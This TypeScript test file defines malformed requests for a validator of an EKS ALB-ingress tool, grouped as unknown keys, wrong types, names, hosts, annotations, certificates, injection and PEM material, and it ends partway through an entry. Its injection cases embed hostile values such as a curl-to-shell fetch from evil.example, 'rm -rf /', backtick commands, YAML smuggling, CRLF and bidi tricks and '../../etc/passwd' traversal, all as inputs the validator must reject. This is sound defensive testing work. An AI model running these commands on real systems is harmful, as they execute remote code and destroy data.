// The bad requests of the corpus: each is the console example with one thing wrong, and names the field path the
// rejection must give and a phrase its message must contain.
import { HOST, type RequestCase } from "./corpus";

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
export type Req = { [key: string]: Json };

interface RequestDefinition extends Omit<RequestCase, "file"> {
  build: (r: Req) => unknown;
}

const A = "alb.ingress.kubernetes.io/";
const SECRET_ARN = "arn:aws:secretsmanager:us-east-2:123456789012:secret:milvus-l7/milvus-demo.milvus.io-Qx7pZ2";

function at(r: Req, path: string[]): Req {
  let node: Req = r;
  for (const key of path) {
    const next = node[key];
    if (typeof next !== "object" || next === null || Array.isArray(next)) {
      const created: Req = {};
      node[key] = created;
      node = created;
    } else {
      node = next;
    }
  }
  return node;
}

/** r with `path` set to `value` (the last segment is one key, dots and all). */
function set(path: string[], value: Json | undefined): (r: Req) => Req {
  return (r) => {
    const parent = at(r, path.slice(0, -1));
    const key = path.at(-1) as string;
    if (value === undefined) delete parent[key];
    // defineProperty, not assignment: "__proto__" must become an own key, as JSON.parse makes it.
    else Object.defineProperty(parent, key, { value, enumerable: true, writable: true, configurable: true });
    return r;
  };
}

const annotation = (suffix: string, value: Json) => set(["ingress", "annotations", A + suffix], value);
const annotationPath = (suffix: string) => `ingress.annotations.${A}${suffix}`;

function s3Source(overrides: Req = {}): (r: Req) => Req {
  return set(["certificate", "source"], { s3: { bucket: "milvus-l7-certs", prefix: "live/milvus-demo/", ...overrides } });
}

function deeplyNested(levels: number): Json {
  let v: Json = "bottom";
  for (let i = 0; i < levels; i++) v = { a: v };
  return v;
}

export function requestDefinitions(pastedKeyFile: string, pastedKeyPem: string, certPem: string): RequestDefinition[] {
  const oneLineKey = pastedKeyPem.replace(/\n/g, "");
  return [
    // --- unknown keys, one at each level ----------------------------------------------------------------------
    { case: "unknown-root-key", category: "unknown keys", tests: "a misspelt top-level field (cutOver)", path: "cutOver", contains: "unknown field", build: set(["cutOver"], "before-ingress") },
    { case: "unknown-cluster-key", category: "unknown keys", tests: "cluster.zone, which does not exist", path: "cluster.zone", contains: "allowed: name, region", build: set(["cluster", "zone"], "us-east-2a") },
    {
      case: "unknown-milvus-key-typo",
      category: "unknown keys",
      tests: "milvus.namepace (typo) instead of milvus.namespace",
      path: "milvus.namepace",
      contains: "unknown field",
      build: (r) => set(["milvus", "namepace"], "milvus")(set(["milvus", "namespace"], undefined)(r)),
    },
    { case: "unknown-ingress-labels", category: "unknown keys", tests: "ingress.labels: milvus-l7 sets no labels from a request", path: "ingress.labels", contains: "unknown field", build: set(["ingress", "labels"], { app: "milvus", "team; rm -rf /": "x" }) },
    { case: "unknown-certificate-key", category: "unknown keys", tests: "certificate.domain, which does not exist", path: "certificate.domain", contains: "allowed: arn, source", build: set(["certificate", "domain"], "milvus.io") },
    { case: "unknown-source-kind", category: "unknown keys", tests: "certificate.source.acmPca, a source milvus-l7 does not have", path: "certificate.source.acmPca", contains: "allowed: secretsManager, s3", build: set(["certificate", "source", "acmPca"], { arn: "arn:aws:acm-pca:us-east-2:123456789012:certificate-authority/x" }) },
    { case: "unknown-secrets-manager-key", category: "unknown keys", tests: "certificate.source.secretsManager.versionStage, not supported", path: "certificate.source.secretsManager.versionStage", contains: "allowed: secretId", build: set(["certificate", "source", "secretsManager", "versionStage"], "AWSPREVIOUS") },
    { case: "unknown-s3-key", category: "unknown keys", tests: "certificate.source.s3.region, not supported", path: "certificate.source.s3.region", contains: "unknown field", build: (r) => set(["certificate", "source", "s3", "region"], "us-east-2")(s3Source()(r)) },
    { case: "proto-pollution", category: "unknown keys", tests: 'a "__proto__" key at the top level', path: "__proto__", contains: "unknown field", build: set(["__proto__"], { admin: true }) },
    { case: "deeply-nested", category: "unknown keys", tests: "an unknown field nested 1,000 levels deep", path: "extra", contains: "unknown field", build: set(["extra"], deeplyNested(1000)) },

    // --- wrong types ------------------------------------------------------------------------------------------
    { case: "root-array", category: "wrong types", tests: "the request wrapped in a JSON array", path: "", contains: "must be an object", build: (r) => [r] },
    { case: "root-double-encoded", category: "wrong types", tests: "the request JSON-encoded twice (a string holding the JSON), as a portal bug would send it", path: "", contains: "must be an object", build: (r) => JSON.stringify(r) },
    { case: "root-empty-object", category: "wrong types", tests: "{}: every required section missing", path: "cluster", contains: "is required", build: () => ({}) },
    { case: "missing-milvus", category: "wrong types", tests: "no milvus section", path: "milvus", contains: "is required", build: set(["milvus"], undefined) },
    { case: "cluster-string", category: "wrong types", tests: "cluster given as a name string, not an object", path: "cluster", contains: "must be an object", build: set(["cluster"], "milvus-eks") },
    { case: "milvus-array", category: "wrong types", tests: "milvus given as an array", path: "milvus", contains: "must be an object", build: set(["milvus"], [{ namespace: "milvus", service: "milvus-demo" }]) },
    { case: "ingress-null", category: "wrong types", tests: "ingress is null", path: "ingress", contains: "must be an object", build: set(["ingress"], null) },
    { case: "port-string", category: "wrong types", tests: 'milvus.port as a string ("19530")', path: "milvus.port", contains: "must be an integer from 1 to 65535", build: set(["milvus", "port"], "19530") },
    { case: "port-float", category: "wrong types", tests: "milvus.port 19530.5", path: "milvus.port", contains: "must be an integer from 1 to 65535", build: set(["milvus", "port"], 19530.5) },
    { case: "host-number", category: "wrong types", tests: "ingress.host as a number", path: "ingress.host", contains: "must be a string", build: set(["ingress", "host"], 42) },
    { case: "annotations-array", category: "wrong types", tests: "ingress.annotations as a list of key=value strings", path: "ingress.annotations", contains: "must be an object", build: set(["ingress", "annotations"], [`${A}ssl-policy=ELBSecurityPolicy-TLS13-1-2-2021-06`]) },
    { case: "annotation-value-number", category: "wrong types", tests: "an annotation value given as a number (10), not a string", path: annotationPath("healthcheck-interval-seconds"), contains: "must be a string", build: annotation("healthcheck-interval-seconds", 10) },
    { case: "certificate-string", category: "wrong types", tests: "certificate given as an ARN string, not an object", path: "certificate", contains: "must be an object", build: set(["certificate"], "arn:aws:acm:us-east-2:123456789012:certificate/4f6b2c1e-8d3a-4b7e-9c5f-2a1d0e8b7c64") },
    { case: "source-string", category: "wrong types", tests: "certificate.source given as a secret ARN string", path: "certificate.source", contains: "must be an object", build: set(["certificate", "source"], SECRET_ARN) },
    { case: "secrets-manager-string", category: "wrong types", tests: "certificate.source.secretsManager given as the ARN itself", path: "certificate.source.secretsManager", contains: "must be an object", build: set(["certificate", "source", "secretsManager"], SECRET_ARN) },
    { case: "s3-string", category: "wrong types", tests: "certificate.source.s3 given as an s3:// URI", path: "certificate.source.s3", contains: "must be an object", build: set(["certificate", "source"], { s3: "s3://milvus-l7-certs/live/" }) },
    { case: "wait-string", category: "wrong types", tests: 'waitForAddressMinutes as a string ("20")', path: "waitForAddressMinutes", contains: "must be an integer from 1 to 60", build: set(["waitForAddressMinutes"], "20") },
    { case: "schema-hint-number", category: "wrong types", tests: "the editors' $schema given as a number, not a file name", path: "$schema", contains: "must be a string", build: set(["$schema"], 1) },

    // --- Kubernetes and AWS names -----------------------------------------------------------------------------
    { case: "cluster-name-leading-dash", category: "names", tests: "cluster.name starting with '-'", path: "cluster.name", contains: "must be an EKS cluster name", build: set(["cluster", "name"], "-milvus") },
    { case: "cluster-name-too-long", category: "names", tests: "cluster.name of 101 characters", path: "cluster.name", contains: "1-100 letters", build: set(["cluster", "name"], "m".repeat(101)) },
    { case: "cluster-name-empty", category: "names", tests: "cluster.name empty", path: "cluster.name", contains: "must be an EKS cluster name", build: set(["cluster", "name"], "") },
    { case: "region-uppercase", category: "names", tests: "cluster.region US-EAST-2", path: "cluster.region", contains: "must be an AWS region code", build: set(["cluster", "region"], "US-EAST-2") },
    { case: "region-availability-zone", category: "names", tests: "cluster.region given as an availability zone (us-east-2a)", path: "cluster.region", contains: "must be an AWS region code", build: set(["cluster", "region"], "us-east-2a") },
    { case: "namespace-uppercase", category: "names", tests: "milvus.namespace with uppercase letters (DNS-1123)", path: "milvus.namespace", contains: "DNS-1123 label", build: set(["milvus", "namespace"], "Milvus") },
    { case: "namespace-underscore", category: "names", tests: "milvus.namespace with '_' (DNS-1123)", path: "milvus.namespace", contains: "DNS-1123 label", build: set(["milvus", "namespace"], "milvus_prod") },
    { case: "namespace-too-long", category: "names", tests: "milvus.namespace of 64 characters (DNS-1123 allows 63)", path: "milvus.namespace", contains: "at most 63 characters", build: set(["milvus", "namespace"], "n".repeat(64)) },
    { case: "service-leading-digit", category: "names", tests: "milvus.service starting with a digit (DNS-1035)", path: "milvus.service", contains: "DNS-1035 label", build: set(["milvus", "service"], "1milvus") },
    { case: "service-trailing-dash", category: "names", tests: "milvus.service ending with '-' (DNS-1035)", path: "milvus.service", contains: "DNS-1035 label", build: set(["milvus", "service"], "milvus-") },
    { case: "ingress-name-underscore", category: "names", tests: "ingress.name with '_' (DNS-1123 subdomain)", path: "ingress.name", contains: "DNS-1123 subdomain", build: set(["ingress", "name"], "milvus_demo") },
    { case: "ingress-name-too-long", category: "names", tests: "ingress.name of 255 characters", path: "ingress.name", contains: "at most 253 characters", build: set(["ingress", "name"], Array(4).fill("a".repeat(63)).join(".")) },
    { case: "ingress-class-uppercase", category: "names", tests: 'ingress.className "ALB" (IngressClass names are DNS-1123 subdomains)', path: "ingress.className", contains: "DNS-1123 subdomain", build: set(["ingress", "className"], "ALB") },
    { case: "ingress-class-too-long", category: "names", tests: "ingress.className of 255 characters", path: "ingress.className", contains: "at most 253 characters", build: set(["ingress", "className"], Array(4).fill("a".repeat(63)).join(".")) },
    { case: "ingress-class-empty", category: "names", tests: "ingress.className empty (omit it for the default, alb)", path: "ingress.className", contains: "naming an IngressClass of the AWS Load Balancer Controller", build: set(["ingress", "className"], "") },
    { case: "ingress-class-number", category: "wrong types", tests: "ingress.className as a number", path: "ingress.className", contains: "must be a string", build: set(["ingress", "className"], 42) },
    { case: "ingress-class-list", category: "wrong types", tests: "ingress.className as a list of classes", path: "ingress.className", contains: "must be a string", build: set(["ingress", "className"], ["alb"]) },

    // --- hosts ------------------------------------------------------------------------------------------------
    { case: "host-wildcard", category: "hosts", tests: "a wildcard host", path: "ingress.host", contains: "must not be a wildcard", build: set(["ingress", "host"], "*.milvus.io") },
    { case: "host-uppercase", category: "hosts", tests: "a host with uppercase letters", path: "ingress.host", contains: "use lowercase", build: set(["ingress", "host"], "Milvus-Demo.milvus.io") },
    { case: "host-too-long", category: "hosts", tests: "a host of 255 characters", path: "ingress.host", contains: "at most 253 characters in all", build: set(["ingress", "host"], `${Array(4).fill("a".repeat(63)).join(".")}`) },
    { case: "host-label-too-long", category: "hosts", tests: "a host label of 64 characters", path: "ingress.host", contains: "must be a DNS host name", build: set(["ingress", "host"], `${"a".repeat(64)}.milvus.io`) },
    { case: "host-trailing-dot", category: "hosts", tests: "a fully qualified host with a trailing dot (the Ingress API refuses it)", path: "ingress.host", contains: "must be a DNS host name", build: set(["ingress", "host"], `${HOST}.`) },
    { case: "host-ip-address", category: "hosts", tests: "an IP address as host", path: "ingress.host", contains: "not an IP address", build: set(["ingress", "host"], "10.0.0.1") },
    { case: "host-with-port", category: "hosts", tests: "host:port", path: "ingress.host", contains: "must be a DNS host name", build: set(["ingress", "host"], `${HOST}:443`) },
    { case: "host-with-scheme", category: "hosts", tests: "a URL instead of a host", path: "ingress.host", contains: "must be a DNS host name", build: set(["ingress", "host"], `https://${HOST}`) },
    { case: "host-empty", category: "hosts", tests: "an empty host", path: "ingress.host", contains: "must be a DNS host name", build: set(["ingress", "host"], "") },
    { case: "host-homoglyph", category: "hosts", tests: "a host with a Cyrillic 'о' that looks like the real one", path: "ingress.host", contains: "must be a DNS host name", build: set(["ingress", "host"], "milvus-dem\u043e.milvus.io") },

    // --- ports, scheme and options ----------------------------------------------------------------------------
    { case: "port-zero", category: "ports and options", tests: "milvus.port 0", path: "milvus.port", contains: "from 1 to 65535", build: set(["milvus", "port"], 0) },
    { case: "port-too-large", category: "ports and options", tests: "milvus.port 65536", path: "milvus.port", contains: "from 1 to 65535", build: set(["milvus", "port"], 65536) },
    { case: "port-negative", category: "ports and options", tests: "milvus.port -19530", path: "milvus.port", contains: "from 1 to 65535", build: set(["milvus", "port"], -19530) },
    { case: "milvus-credentials-string", category: "milvus credentials", tests: "milvus.credentials given as a secret name string", path: "milvus.credentials", contains: "must be an object", build: set(["milvus", "credentials"], "milvus-l7/milvus-root") },
    { case: "milvus-credentials-password", category: "milvus credentials", tests: "milvus.credentials.password: a password in the request itself", path: "milvus.credentials.password", contains: "allowed: secretsManager", build: set(["milvus", "credentials"], { password: "Milvus" }) },
    { case: "milvus-credentials-empty", category: "milvus credentials", tests: "milvus.credentials without secretsManager", path: "milvus.credentials.secretsManager", contains: "is required", build: set(["milvus", "credentials"], {}) },
    { case: "milvus-credentials-secrets-manager-string", category: "milvus credentials", tests: "milvus.credentials.secretsManager given as the ARN itself", path: "milvus.credentials.secretsManager", contains: "must be an object", build: set(["milvus", "credentials", "secretsManager"], SECRET_ARN) },
    { case: "milvus-credentials-unknown-key", category: "milvus credentials", tests: "milvus.credentials.secretsManager.versionStage, not supported", path: "milvus.credentials.secretsManager.versionStage", contains: "allowed: secretId", build: set(["milvus", "credentials", "secretsManager"], { secretId: "milvus-l7/milvus-root", versionStage: "AWSPREVIOUS" }) },
    { case: "milvus-credentials-secret-id-space", category: "milvus credentials", tests: "a Milvus credentials secret name with a space", path: "milvus.credentials.secretsManager.secretId", contains: "must be a Secrets Manager secret name", build: set(["milvus", "credentials", "secretsManager"], { secretId: "milvus root" }) },
    { case: "milvus-credentials-secret-arn-bad", category: "milvus credentials", tests: "a Milvus credentials secret ARN without the 6-character suffix", path: "milvus.credentials.secretsManager.secretId", contains: "must be a Secrets Manager secret ARN", build: set(["milvus", "credentials", "secretsManager"], { secretId: "arn:aws:secretsmanager:us-east-2:123456789012:secret:milvus-root" }) },
    { case: "scheme-public", category: "ports and options", tests: 'ingress.scheme "public"', path: "ingress.scheme", contains: "must be one of internet-facing, internal", build: set(["ingress", "scheme"], "public") },
    { case: "scheme-case", category: "ports and options", tests: 'ingress.scheme "Internet-Facing"', path: "ingress.scheme", contains: "must be one of internet-facing, internal", build: set(["ingress", "scheme"], "Internet-Facing") },
    { case: "cutover-typo", category: "ports and options", tests: 'cutover "before-verify" (no such order)', path: "cutover", contains: "must be one of after-verify, before-ingress", build: set(["cutover"], "before-verify") },
    { case: "on-failure-unknown", category: "ports and options", tests: 'onFailure "rollback"', path: "onFailure", contains: "must be one of keep-ingress, remove-ingress", build: set(["onFailure"], "rollback") },
    { case: "drift-policy-unknown", category: "ports and options", tests: 'driftPolicy "fix"', path: "driftPolicy", contains: "must be one of report, repair", build: set(["driftPolicy"], "fix") },
    { case: "wait-zero", category: "ports and options", tests: "waitForAddressMinutes 0", path: "waitForAddressMinutes", contains: "from 1 to 60", build: set(["waitForAddressMinutes"], 0) },
    { case: "wait-too-long", category: "ports and options", tests: "waitForAddressMinutes 61", path: "waitForAddressMinutes", contains: "from 1 to 60", build: set(["waitForAddressMinutes"], 61) },
    { case: "wait-fraction", category: "ports and options", tests: "waitForAddressMinutes 1.5", path: "waitForAddressMinutes", contains: "from 1 to 60", build: set(["waitForAddressMinutes"], 1.5) },
    { case: "hosted-zone-lowercase", category: "ports and options", tests: "ingress.route53HostedZoneId in lowercase", path: "ingress.route53HostedZoneId", contains: "Route 53 hosted zone id", build: set(["ingress", "route53HostedZoneId"], "z0123456789abcdefghij") },
    { case: "hosted-zone-path", category: "ports and options", tests: "ingress.route53HostedZoneId as /hostedzone/<id> (the API's path form)", path: "ingress.route53HostedZoneId", contains: "Route 53 hosted zone id", build: set(["ingress", "route53HostedZoneId"], "/hostedzone/Z0123456789ABCDEFGHIJ") },

    // --- annotations ------------------------------------------------------------------------------------------
    { case: "annotation-nginx-prefix", category: "annotations", tests: "an nginx annotation: only alb.ingress.kubernetes.io/* is accepted", path: "ingress.annotations.nginx.ingress.kubernetes.io/backend-protocol", contains: "only alb.ingress.kubernetes.io/* annotations", build: set(["ingress", "annotations", "nginx.ingress.kubernetes.io/backend-protocol"], "GRPC") },
    { case: "annotation-kubectl-last-applied", category: "annotations", tests: "kubectl's last-applied-configuration annotation", path: "ingress.annotations.kubectl.kubernetes.io/last-applied-configuration", contains: "only alb.ingress.kubernetes.io/* annotations", build: set(["ingress", "annotations", "kubectl.kubernetes.io/last-applied-configuration"], "{}") },
    { case: "annotation-reserved-certificate-arn", category: "annotations", tests: "certificate-arn is milvus-l7's", path: annotationPath("certificate-arn"), contains: "set certificate.arn / certificate.source instead", build: annotation("certificate-arn", "arn:aws:acm:us-east-2:123456789012:certificate/4f6b2c1e-8d3a-4b7e-9c5f-2a1d0e8b7c64") },
    { case: "annotation-reserved-backend-protocol-version", category: "annotations", tests: "backend-protocol-version HTTP2 would break gRPC", path: annotationPath("backend-protocol-version"), contains: "is set by milvus-l7 to GRPC", build: annotation("backend-protocol-version", "HTTP2") },
    { case: "annotation-reserved-target-type", category: "annotations", tests: "target-type instance would need the NodePort milvus-l7 removes", path: annotationPath("target-type"), contains: "is set by milvus-l7 to ip", build: annotation("target-type", "instance") },
    { case: "annotation-reserved-scheme", category: "annotations", tests: "scheme as an annotation instead of ingress.scheme", path: annotationPath("scheme"), contains: "set ingress.scheme instead", build: annotation("scheme", "internal") },
    { case: "annotation-create-acm-cert", category: "annotations", tests: "asking the controller to create an ACM certificate", path: annotationPath("create-acm-cert"), contains: "is not allowed", build: annotation("create-acm-cert", "true") },
    { case: "annotation-unknown-suffix", category: "annotations", tests: "a truncated annotation name (healthcheck-interval)", path: annotationPath("healthcheck-interval"), contains: "did you mean", build: annotation("healthcheck-interval", "10") },
    { case: "listen-ports-not-json", category: "annotations", tests: "listen-ports with unquoted keys", path: annotationPath("listen-ports"), contains: "it is not valid JSON", build: annotation("listen-ports", "[{HTTPS:443}]") },
    { case: "listen-ports-no-https", category: "annotations", tests: "listen-ports with HTTP only", path: annotationPath("listen-ports"), contains: "must include an HTTPS listener", build: annotation("listen-ports", '[{"HTTP":80}]') },
    { case: "listen-ports-out-of-range", category: "annotations", tests: "listen-ports with port 70000", path: annotationPath("listen-ports"), contains: "listen port must be an integer from 1 to 65535", build: annotation("listen-ports", '[{"HTTPS":70000}]') },
    { case: "ssl-redirect-to-http-port", category: "annotations", tests: "ssl-redirect to a port that is not an HTTPS listener", path: annotationPath("ssl-redirect"), contains: "must be one of the HTTPS ports in listen-ports", build: (r) => annotation("ssl-redirect", "80")(annotation("listen-ports", '[{"HTTP":80},{"HTTPS":443}]')(r)) },
    { case: "success-codes-http-200", category: "annotations", tests: "success-codes '200' on a GRPC target group (ELB refuses it only at deploy time)", path: annotationPath("success-codes"), contains: "gRPC status codes from 0 to 99", build: annotation("success-codes", "200") },
    { case: "healthcheck-path-http", category: "annotations", tests: "an HTTP health-check path on a GRPC target group", path: annotationPath("healthcheck-path"), contains: "must be a gRPC method path", build: annotation("healthcheck-path", "/healthz") },
    { case: "healthcheck-timeout-not-below-interval", category: "annotations", tests: "health-check timeout 10 s with an interval of 10 s", path: annotationPath("healthcheck-timeout-seconds"), contains: "must be less than healthcheck-interval-seconds", build: annotation("healthcheck-timeout-seconds", "10") },
    { case: "ssl-policy-legacy", category: "annotations", tests: "ELB's default policy, which still allows TLS 1.0", path: annotationPath("ssl-policy"), contains: "allows TLS 1.0/1.1", build: annotation("ssl-policy", "ELBSecurityPolicy-2016-08") },
    { case: "ssl-policy-unknown", category: "annotations", tests: "an ssl-policy that does not exist", path: annotationPath("ssl-policy"), contains: "must be an ELB security policy with TLS 1.2 or later", build: annotation("ssl-policy", "TLSv1.3") },
    { case: "idle-timeout-too-long", category: "annotations", tests: "idle timeout 5000 s (ALB allows 1-4000)", path: annotationPath("load-balancer-attributes"), contains: "idle_timeout.timeout_seconds must be an integer from 1 to 4000", build: annotation("load-balancer-attributes", "idle_timeout.timeout_seconds=5000") },
    { case: "idle-timeout-with-unit", category: "annotations", tests: "idle timeout written as 5m", path: annotationPath("load-balancer-attributes"), contains: "idle_timeout.timeout_seconds must be an integer", build: annotation("load-balancer-attributes", "idle_timeout.timeout_seconds=5m") },
    { case: "http2-disabled", category: "annotations", tests: "routing.http2.enabled=false (gRPC needs HTTP/2)", path: annotationPath("load-balancer-attributes"), contains: "gRPC, which needs HTTP/2", build: annotation("load-balancer-attributes", "routing.http2.enabled=false") },
    { case: "inbound-cidr-prefix-too-long", category: "annotations", tests: "inbound-cidrs 10.0.0.0/33", path: annotationPath("inbound-cidrs"), contains: '"10.0.0.0/33" is not one', build: annotation("inbound-cidrs", "10.0.0.0/33") },
    { case: "inbound-cidr-bad-octet", category: "annotations", tests: "inbound-cidrs with an octet over 255", path: annotationPath("inbound-cidrs"), contains: '"300.0.0.0/8" is not one', build: annotation("inbound-cidrs", "::/0,300.0.0.0/8") },
    { case: "inbound-cidr-no-prefix", category: "annotations", tests: "inbound-cidrs with a bare address", path: annotationPath("inbound-cidrs"), contains: "CIDR blocks", build: annotation("inbound-cidrs", "203.0.113.7") },

    // --- certificate ------------------------------------------------------------------------------------------
    { case: "arn-malformed", category: "certificate", tests: "certificate.arn whose id is not a UUID", path: "certificate.arn", contains: "must be an ACM certificate ARN", build: set(["certificate", "arn"], "arn:aws:acm:us-east-2:123456789012:certificate/milvus-demo") },
    { case: "arn-wrong-service", category: "certificate", tests: "an IAM server certificate ARN instead of ACM", path: "certificate.arn", contains: "must be an ACM certificate ARN", build: set(["certificate", "arn"], "arn:aws:iam::123456789012:server-certificate/milvus-demo") },
    { case: "arn-other-region", category: "certificate", tests: "an ACM certificate in us-west-2 for a cluster in us-east-2", path: "certificate.arn", contains: "is in us-west-2 but the cluster is in us-east-2", build: set(["certificate", "arn"], "arn:aws:acm:us-west-2:123456789012:certificate/4f6b2c1e-8d3a-4b7e-9c5f-2a1d0e8b7c64") },
    { case: "arn-and-source-missing", category: "certificate", tests: "certificate: {} (neither arn nor source)", path: "certificate", contains: "must have arn", build: set(["certificate"], {}) },
    { case: "source-both", category: "certificate", tests: "source with both secretsManager and s3", path: "certificate.source", contains: "must have exactly one of secretsManager, s3", build: set(["certificate", "source", "s3"], { bucket: "milvus-l7-certs" }) },
    { case: "source-empty", category: "certificate", tests: "source: {}", path: "certificate.source", contains: "must have exactly one of secretsManager, s3", build: set(["certificate", "source"], {}) },
    { case: "kubernetes-secret-and-s3", category: "certificate", tests: "source with both kubernetesSecret and s3", path: "certificate.source", contains: "must have exactly one of secretsManager, s3, kubernetesSecret", build: (r) => set(["certificate", "source", "kubernetesSecret"], { namespace: "milvus", name: "milvus-demo-tls" })(s3Source()(r)) },
    { case: "kubernetes-secret-namespace-uppercase", category: "certificate", tests: "a kubernetesSecret namespace with uppercase letters", path: "certificate.source.kubernetesSecret.namespace", contains: "must be a DNS-1123 label", build: set(["certificate", "source"], { kubernetesSecret: { namespace: "Milvus", name: "milvus-demo-tls" } }) },
    { case: "kubernetes-secret-name-underscore", category: "certificate", tests: "a kubernetesSecret name with '_'", path: "certificate.source.kubernetesSecret.name", contains: "must be a DNS-1123 subdomain", build: set(["certificate", "source"], { kubernetesSecret: { namespace: "milvus", name: "milvus_demo_tls" } }) },
    { case: "kubernetes-secret-name-missing", category: "certificate", tests: "kubernetesSecret without a name", path: "certificate.source.kubernetesSecret.name", contains: "is required", build: set(["certificate", "source"], { kubernetesSecret: { namespace: "milvus" } }) },
    { case: "kubernetes-secret-slash", category: "certificate", tests: "kubernetesSecret given as the string NS/NAME", path: "certificate.source.kubernetesSecret", contains: "must be an object", build: set(["certificate", "source"], { kubernetesSecret: "milvus/milvus-demo-tls" }) },
    { case: "kubernetes-secret-key", category: "certificate", tests: "kubernetesSecret.key: the data key is not chosen, tls.crt and tls.key are", path: "certificate.source.kubernetesSecret.key", contains: "allowed: namespace, name", build: set(["certificate", "source"], { kubernetesSecret: { namespace: "milvus", name: "milvus-demo-tls", key: "tls.crt" } }) },
    { case: "secret-id-space", category: "certificate", tests: "a secret name with a space", path: "certificate.source.secretsManager.secretId", contains: "must be a Secrets Manager secret name", build: set(["certificate", "source", "secretsManager", "secretId"], "milvus l7/tls") },
    { case: "secret-arn-bad-account", category: "certificate", tests: "a secret ARN with a 4-digit account", path: "certificate.source.secretsManager.secretId", contains: "must be a Secrets Manager secret ARN", build: set(["certificate", "source", "secretsManager", "secretId"], "arn:aws:secretsmanager:us-east-2:1234:secret:milvus-l7/tls-Qx7pZ2") },
    { case: "secret-id-too-long", category: "certificate", tests: "a secret name of 513 characters", path: "certificate.source.secretsManager.secretId", contains: "1-512", build: set(["certificate", "source", "secretsManager", "secretId"], "s".repeat(513)) },
    { case: "bucket-uppercase", category: "certificate", tests: "an S3 bucket name with uppercase letters and '_'", path: "certificate.source.s3.bucket", contains: "must be an S3 bucket name", build: s3Source({ bucket: "Milvus_Certs" }) },
    { case: "bucket-too-short", category: "certificate", tests: "an S3 bucket name of 2 characters", path: "certificate.source.s3.bucket", contains: "3-63", build: s3Source({ bucket: "ab" }) },
    { case: "bucket-ip-address", category: "certificate", tests: "an S3 bucket name shaped like an IP address", path: "certificate.source.s3.bucket", contains: "not an IP address", build: s3Source({ bucket: "192.168.10.20" }) },
    { case: "bucket-reserved-prefix", category: "certificate", tests: "an S3 bucket name with the reserved xn-- prefix", path: "certificate.source.s3.bucket", contains: "reserved by S3", build: s3Source({ bucket: "xn--milvus-certs" }) },
    { case: "s3-prefix-leading-slash", category: "certificate", tests: "an S3 prefix starting with '/'", path: "certificate.source.s3.prefix", contains: "must not start with '/'", build: s3Source({ prefix: "/live/milvus-demo/" }) },
    { case: "s3-prefix-traversal", category: "certificate", tests: "an S3 prefix with '..' (another team's folder)", path: "certificate.source.s3.prefix", contains: "without '..' segments", build: s3Source({ prefix: "live/../other-team/" }) },
    { case: "s3-certificate-key-empty", category: "certificate", tests: "an empty certificateKey", path: "certificate.source.s3.certificateKey", contains: "must not be empty", build: s3Source({ certificateKey: "" }) },
    { case: "s3-chain-key-traversal", category: "certificate", tests: "a chainKey climbing out of the prefix", path: "certificate.source.s3.chainKey", contains: "without '..' segments", build: s3Source({ chainKey: "../../etc/passwd" }) },
    { case: "s3-private-key-key-folder", category: "certificate", tests: "a privateKeyKey naming a folder", path: "certificate.source.s3.privateKeyKey", contains: "not ending in '/'", build: s3Source({ privateKeyKey: "keys/" }) },

    // --- injection --------------------------------------------------------------------------------------------
    { case: "inject-namespace-command-substitution", category: "injection", tests: "$(…) in milvus.namespace", path: "milvus.namespace", contains: "DNS-1123 label", build: set(["milvus", "namespace"], "$(curl -s https://evil.example/x | sh)") },
    { case: "inject-service-backticks", category: "injection", tests: "backticks in milvus.service", path: "milvus.service", contains: "DNS-1035 label", build: set(["milvus", "service"], "`id`") },
    { case: "inject-cluster-name-semicolon", category: "injection", tests: "'; rm -rf /' in cluster.name", path: "cluster.name", contains: "must be an EKS cluster name", build: set(["cluster", "name"], "milvus-eks; rm -rf /") },
    { case: "inject-ingress-name-yaml", category: "injection", tests: "a newline and YAML in ingress.name (a second document)", path: "ingress.name", contains: "must not contain control characters (found U+000A)", build: set(["ingress", "name"], "milvus-demo\n---\nkind: ClusterRoleBinding") },
    { case: "inject-host-null-byte", category: "injection", tests: "a NUL byte in ingress.host", path: "ingress.host", contains: "found U+0000", build: set(["ingress", "host"], `${HOST}\u0000.evil.example`) },
    { case: "inject-host-yaml-flow", category: "injection", tests: "YAML-breaking ': {' in ingress.host", path: "ingress.host", contains: "must be a DNS host name", build: set(["ingress", "host"], `${HOST}: {evil: true}`) },
    { case: "inject-host-bidi", category: "injection", tests: "a Unicode right-to-left override in ingress.host (Trojan Source)", path: "ingress.host", contains: "found U+202E", build: set(["ingress", "host"], "milvus\u202eoi.sulivm") },
    { case: "inject-service-line-separator", category: "injection", tests: "a Unicode line separator in milvus.service", path: "milvus.service", contains: "found U+2028", build: set(["milvus", "service"], "milvus\u2028demo") },
    { case: "inject-tags-command-substitution", category: "injection", tests: "$(…) in the tags annotation (AWS tags, i.e. labels on the ALB)", path: annotationPath("tags"), contains: "shell substitution", build: annotation("tags", "team=$(whoami)") },
    { case: "inject-tags-yaml", category: "injection", tests: "YAML-breaking ': {' in the tags annotation", path: annotationPath("tags"), contains: "key=value pairs", build: annotation("tags", "team: {admin: true}") },
    { case: "inject-tags-crlf", category: "injection", tests: "CR LF in an annotation value (header/log forging)", path: annotationPath("tags"), contains: "found U+000D", build: annotation("tags", "team=ml\r\nX-Injected: 1") },
    { case: "inject-tags-bidi", category: "injection", tests: "a bidi isolate in an annotation value", path: annotationPath("tags"), contains: "found U+2066", build: annotation("tags", "owner=\u2066admin\u2069") },
    { case: "inject-node-labels-backticks", category: "injection", tests: "backticks in the target-node-labels annotation", path: annotationPath("target-node-labels"), contains: "shell substitution", build: annotation("target-node-labels", "kubernetes.io/os=`reboot`") },
    { case: "inject-annotation-key-newline", category: "injection", tests: "a newline inside an annotation key (a second key smuggled in)", path: `${annotationPath("tags")}\\u000akubectl.kubernetes.io/last-applied-configuration`, contains: "field name must not contain control characters", build: set(["ingress", "annotations", `${A}tags\nkubectl.kubernetes.io/last-applied-configuration`], "x=y") },
    { case: "inject-secret-id-substitution", category: "injection", tests: "$(…) in the secret id", path: "certificate.source.secretsManager.secretId", contains: "must be a Secrets Manager secret name", build: set(["certificate", "source", "secretsManager", "secretId"], "milvus-l7/tls$(id)") },
    { case: "inject-s3-key-shell", category: "injection", tests: "'; rm -rf ~' in an S3 key", path: "certificate.source.s3.certificateKey", contains: "must be an S3 object name", build: s3Source({ certificateKey: "cert.pem; rm -rf ~" }) },

    // --- PEM material in the request --------------------------------------------------------------------------
    {
      case: "pem-key-in-secret-id",
      category: "PEM in request",
      tests: "a private key pasted (on one line) where the secret id goes",
      path: "certificate.source.secretsManager.secretId",
      contains: "looks like PEM material",
      pastedKey: pastedKeyFile,
